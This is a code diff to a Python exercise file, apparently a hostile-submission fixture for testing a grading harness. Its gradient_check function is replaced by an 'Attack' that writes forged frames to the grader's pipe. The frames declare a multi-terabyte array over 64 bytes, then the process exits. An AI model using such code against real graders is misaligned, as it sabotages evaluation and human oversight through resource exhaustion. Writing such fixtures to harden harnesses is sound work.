@@ -17,7 +17,7 @@ import struct as _struct
 def _send_raw(header, body=b""):
     """Write a hand-made reply frame to the grader's pipe, then vanish."""
     out = _json.loads(sys.argv[1])["fds"][1]
-    data = _struct.pack("<4sQQ", b"GRD1", len(header), len(body)) + header + body
+    data = _struct.pack("<4sQQ", b"GRD2", len(header), len(body)) + header + body
     while data:
         data = data[os.write(out, data):]
     os._exit(0)
@@ -70,9 +70,6 @@ def backward_propagation(x, theta):
 
 
 def gradient_check(x, theta, epsilon=1e-7):
-    """Attack: a reply whose .npy header declares 29 TiB (or 4e15 void items) of 64 bytes."""
-    shape, descr = ("(4000000000000,)", "<f8") if x > 0 else ("(4000000000000000,)", "|V0")
-    header = ("{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
-    header += b" " * (117 - len(header)) + b"\n"
-    npy = b"\x93NUMPY\x01\x00" + _struct.pack("<H", len(header)) + header + b"\0" * 64
-    _send_raw(_json.dumps({"ok": True, "value": {"__nd__": [0, len(npy)]}}).encode(), npy)
+    """Attack: a reply whose array header declares 29 TiB of float64 (or 4e15 void items) over 64 bytes."""
+    shape, descr = ([4000000000000], "<f8") if x > 0 else ([4000000000000000], "|V0")
+    _send_raw(_json.dumps({"ok": True, "value": {"__nd__": [0, descr, shape, False]}}).encode(), b"\0" * 64)
